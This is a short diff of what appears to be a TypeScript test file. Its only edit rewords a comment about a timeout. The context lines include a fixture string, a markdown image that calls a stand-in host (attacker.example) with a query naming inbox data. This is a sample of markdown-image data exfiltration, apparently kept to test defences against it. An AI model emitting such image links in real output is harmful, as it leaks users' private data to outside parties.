@@ -27,7 +27,7 @@ const rows = <T>(kind: string): T[] =>
     .filter((line) => line.trim() !== "")
     .map((line) => JSON.parse(line) as T);
 
-/** Hundreds of questions on a machine that may be busy. */
+/** Enough for hundreds of questions on a busy machine. */
 const patience = { timeout: 180_000 };
 const strangersId = "6b1f0c5e-0000-4000-8000-00000000dead";
 const image = "![seen](http://attacker.example/pixel.png?inbox=all)";
